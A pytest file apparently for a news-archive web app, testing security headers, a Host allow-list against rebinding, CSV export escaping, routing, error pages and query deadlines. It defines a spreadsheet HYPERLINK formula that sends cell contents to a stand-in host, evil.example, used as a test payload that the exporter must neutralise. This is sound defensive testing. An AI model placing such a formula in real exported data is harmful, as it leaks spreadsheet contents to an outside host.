"""Server hardening: security headers, the Host allow-list, CSV cells that cannot run as formulas,
ids of any characters, HTML errors for browsers, and an article page that renders in bounded time."""

import csv
import io
import time

import pytest
from fastapi.testclient import TestClient

from dateline.model import Record
from dateline.store import open_store
from dateline.store.export import export as export_rows
from dateline.store.filters import Filters
from dateline.web.app import allowed_hosts, create_app, host_name

from heavy import heavy_record

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def guarded(tmp_path_factory):
    path = tmp_path_factory.mktemp("guard") / "guard.db"
    with open_store(str(path)) as store:
        store.write_record(Record(id="wire/2024/01", text="Formula\n\nA story.", title=FORMULA,
                                  source="@SUM(1+1)"))
        store.write_record(heavy_record())
    return path


@pytest.fixture(scope="module")
def client(guarded):
    return TestClient(create_app(str(guarded), hosts=["127.0.0.1", "localhost", "testserver"]))


def test_every_answer_carries_the_security_headers(client):
    for url in ("/", "/api/stats", "/no-such-page", "/api/articles/nope"):
        headers = client.get(url).headers
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert "script-src 'self'" in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"


def test_only_allowed_host_names_are_answered(client):
    assert client.get("/api/stats", headers={"host": "rebind.evil.example"}).status_code == 400
    assert client.get("/api/stats", headers={"host": "localhost:8000"}).status_code == 200
    assert host_name("[::1]:8000") == "::1" and host_name("LocalHost") == "localhost"
    assert "::1" in allowed_hosts("127.0.0.1") and allowed_hosts("0.0.0.0", ["*"]) is None
    assert "news.example" in allowed_hosts("news.example")


def test_csv_cells_that_start_like_formulas_are_neutralised_in_web_and_cli(client, guarded, tmp_path):
    rows = list(csv.DictReader(io.StringIO(client.get("/api/articles.csv").text)))
    titles = {row["title"] for row in rows}
    assert "'" + FORMULA in titles and FORMULA not in titles
    out = tmp_path / "articles.csv"
    with open_store(str(guarded)) as store:
        export_rows(store, "articles", "csv", Filters(), str(out), None)
    cells = [cell for row in csv.reader(out.open(newline="")) for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]


def test_ids_with_slashes_are_routable(client):
    assert client.get("/api/articles/wire/2024/01").json()["id"] == "wire/2024/01"
    assert client.get("/articles/wire%2F2024%2F01").status_code == 200


def test_browsers_get_error_pages_and_the_api_gets_json(client):
    page = client.get("/articles/missing", headers={"accept": "text/html"})
    assert page.status_code == 404 and page.headers["content-type"].startswith("text/html")
    api = client.get("/api/articles/missing", headers={"accept": "text/html"})
    assert api.status_code == 404 and "detail" in api.json()


def test_the_heaviest_article_page_renders_in_bounded_time(client):
    started = time.perf_counter()
    page = client.get("/articles/heavy")
    took = time.perf_counter() - started
    assert page.status_code == 200 and "full record" in page.text
    assert took < 10, took  # 28.8 s before (a shared 2-core machine: the bound is loose)


def test_serve_refuses_other_host_names_unless_allowed(guarded, launch):
    import httpx

    proc, base = launch(guarded, "--workers", "1", "--allow-host", "news.example")
    try:
        assert httpx.get(base + "/api/stats", headers={"host": "rebind.evil.example"}).status_code == 400
        assert httpx.get(base + "/api/stats", headers={"host": "news.example"}).status_code == 200
        assert httpx.get(base + "/api/stats").status_code == 200
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_queries_past_the_request_deadline_answer_503(guarded):
    from dateline.settings import DEFAULT

    hurried = TestClient(create_app(str(guarded), DEFAULT.with_overrides(web_request_seconds=0)))
    api = hurried.get("/api/articles/heavy")  # enough work for SQLite to ask the deadline
    assert api.status_code == 503 and "web_request_seconds" in api.json()["detail"]
    page = hurried.get("/articles/heavy", headers={"accept": "text/html"})
    assert page.status_code == 503 and page.headers["content-type"].startswith("text/html")


def test_postgresql_sessions_stay_read_only_and_timed_on_every_checkout():
    import os

    import sqlalchemy as sa

    from dateline.web.app import open_read_only

    url = os.environ.get("DATELINE_TEST_PG", "postgresql://dateline:dateline@127.0.0.1/dateline_test")
    engine = open_read_only(url, 2.5)
    try:
        for _ in range(3):  # each checkout follows the pool's rollback of the one before
            with engine.connect() as conn:
                assert conn.exec_driver_sql("SHOW transaction_read_only").scalar() == "on"
                assert conn.exec_driver_sql("SHOW statement_timeout").scalar() == "2500ms"
    except sa.exc.OperationalError as exc:
        if "statement timeout" in str(exc) or os.environ.get("CI") == "true":
            raise
        pytest.skip(f"PostgreSQL not reachable at {url}")
    finally:
        engine.dispose()
